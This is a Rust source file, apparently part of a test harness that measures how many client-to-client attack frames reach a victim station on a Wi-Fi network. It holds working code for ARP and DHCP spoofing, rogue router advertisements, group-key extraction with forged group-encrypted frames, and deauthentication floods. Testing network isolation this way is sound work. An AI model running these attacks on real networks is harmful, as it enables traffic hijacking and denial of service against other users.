//! Attacks of one station on another, the same on a plain access point as on Hotshare.

use std::net::Ipv4Addr;
use std::time::Duration;

use anyhow::{Context, Result};

use crate::attack::{Attacker, Ear, Farewell, Lie, Mac, Rogue, farewell, group_frame, lie, mac, udp};
use crate::measure::tool_in;
use crate::station::{LEFT, Station};

/// How often each frame is sent.
pub(super) const TIMES: u32 = 20;

const BY_FRAME: u8 = 1;
const BOUNCED: u8 = 2;
const TO_ALL: u8 = 3;
const FORGED_GROUP: u8 = 4;
const ADDRESS_TO_ONE: u8 = 5;
const ADDRESS_TO_ALL: u8 = 6;
const DHCP: u8 = 7;
const ROUTER: u8 = 8;
const FORGED_DHCP: u8 = 9;

/// Of [`TIMES`] frames of each kind, how many reached the victim's kernel.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct Reached {
    /// Sent to the victim's hardware address, through the access point.
    pub(super) by_frame: u64,
    /// Sent to the gateway's hardware address and the victim's IP address.
    pub(super) bounced: u64,
    /// Sent to everybody, through the access point.
    pub(super) to_all: u64,
    /// Sent in the access point's name, encrypted with the thief's group key.
    pub(super) forged_group: u64,
    pub(super) address_to_one: u64,
    pub(super) address_to_all: u64,
    pub(super) dhcp: u64,
    pub(super) router: u64,
    pub(super) forged_dhcp: u64,
}

impl Reached {
    pub(super) fn each(&self) -> [u64; 9] {
        [
            self.by_frame,
            self.bounced,
            self.to_all,
            self.forged_group,
            self.address_to_one,
            self.address_to_all,
            self.dhcp,
            self.router,
            self.forged_dhcp,
        ]
    }
}

/// What both know of where they are.
#[derive(Clone, Copy, Debug)]
pub(super) struct Ground {
    pub(super) bssid: Mac,
    pub(super) gateway: (Mac, Ipv4Addr),
    pub(super) victim: (Mac, Ipv4Addr),
    pub(super) thief: (Mac, Ipv4Addr),
}

impl Ground {
    /// As the two stations are placed now. The thief's own neighbour entry names the gateway.
    pub(super) async fn of(thief: &Station, victim: &Station) -> Result<Ground> {
        let gateway = thief.gateway()?;
        thief.ping(gateway, 1).await?;
        let entry = tool_in(thief.inside().space(), "ip", &["neigh", "show", &gateway.to_string()])?;
        let words: Vec<&str> = entry.split_whitespace().collect();
        let at = words.iter().position(|word| *word == "lladdr").context("the thief knows no gateway")?;
        let bssid = thief.control()?.status("bssid").await?.context("the thief is not on the air")?;
        Ok(Ground {
            bssid: mac(&bssid)?,
            gateway: (mac(words.get(at + 1).context("no address")?)?, gateway),
            victim: (mac(&victim.mac()?)?, victim.lease()?.address),
            thief: (mac(&thief.mac()?)?, thief.lease()?.address),
        })
    }
}

/// Everything at once against the victim.
pub(super) async fn assault(
    ground: &Ground,
    thief: &Station,
    victim: &Station,
    attacker: &Attacker,
) -> Result<Reached> {
    let ear = Ear::at(victim).await?;
    let rogue = Rogue::at(thief).await?;
    let Ground { bssid, gateway, victim: target, thief: own } = *ground;
    let everybody = [0xff; 6];
    let offer = Lie::Dhcp { gateway: own.1, offered: target.1, client: target.0 };
    rogue.send(&udp(target, own, 5000, BY_FRAME), TIMES)?;
    rogue.send(&udp((gateway.0, target.1), own, 5000, BOUNCED), TIMES)?;
    rogue.send(&udp((everybody, Ipv4Addr::BROADCAST), own, 5000, TO_ALL), TIMES)?;
    let to_one = Lie::Address { of: gateway.1, to: Some(target) };
    rogue.send(&lie(own.0, to_one, ADDRESS_TO_ONE), TIMES)?;
    rogue.send(&lie(own.0, Lie::Address { of: gateway.1, to: None }, ADDRESS_TO_ALL), TIMES)?;
    rogue.send(&lie(own.0, offer, DHCP), TIMES)?;
    rogue.send(&lie(own.0, Lie::Router, ROUTER), TIMES)?;
    let (key, index) = group_key(thief)?;
    // Beyond what the access point itself can have sent, and growing, or it is dropped as a replay.
    let mut number = 1 << 30;
    for (frame, times) in [
        (udp((everybody, target.1), own, 5000, FORGED_GROUP), TIMES),
        (lie(own.0, offer, FORGED_DHCP), TIMES),
    ] {
        for _ in 0..times {
            number += 1;
            attacker.send(&group_frame(bssid, &frame, key, index, number))?;
            std::thread::sleep(Duration::from_millis(2));
        }
    }
    // Group frames wait for the next beacon when somebody saves power.
    tokio::time::sleep(Duration::from_millis(700)).await;
    Ok(Reached {
        by_frame: ear.heard(BY_FRAME),
        bounced: ear.heard(BOUNCED),
        to_all: ear.heard(TO_ALL),
        forged_group: ear.heard(FORGED_GROUP),
        address_to_one: ear.heard(ADDRESS_TO_ONE),
        address_to_all: ear.heard(ADDRESS_TO_ALL),
        dhcp: ear.heard(DHCP),
        router: ear.heard(ROUTER),
        forged_dhcp: ear.heard(FORGED_DHCP),
    })
}

/// The group key that a station was given last, and its number.
pub(super) fn group_key(station: &Station) -> Result<([u8; 16], u8)> {
    let log = station.log()?;
    let last = |words: &str| {
        log.lines()
            .rev()
            .find_map(|line| line.split_once(words).map(|(_, rest)| rest.to_owned()))
            .with_context(|| format!("{}'s log has no “{words}”", station.name()))
    };
    let hex = last("WPA: Group Key - hexdump(len=16): ")?;
    let bytes: Vec<u8> =
        hex.split_whitespace().map(|pair| u8::from_str_radix(pair, 16)).collect::<Result<_, _>>()?;
    let index = last("WPA: Installing GTK to the driver (keyidx=")?;
    let index = index.split(' ').next().context("no number")?.parse()?;
    Ok((bytes.try_into().ok().context("a group key of another length")?, index))
}

/// Forges good-byes both ways between the station and its access point, and says how often the link was lost.
pub(super) async fn forge_farewells(
    attacker: &Attacker,
    station: &Station,
    bssid: Mac,
    count: u16,
) -> Result<usize> {
    let begin = std::time::Instant::now();
    let own = mac(&station.mac()?)?;
    for number in 0..count {
        let kind = if number % 4 == 3 { Farewell::Disassociation } else { Farewell::Deauthentication };
        let (to, from) = match number % 3 {
            0 => (own, bssid),
            1 => (bssid, own),
            _ => ([0xff; 6], bssid),
        };
        attacker.send(&farewell(kind, to, from, bssid, number))?;
        // Others are to work meanwhile: the supplicant answers to what it hears.
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
    tokio::time::sleep(Duration::from_millis(1500)).await;
    Ok(station.control()?.count(LEFT, Some(begin)))
}
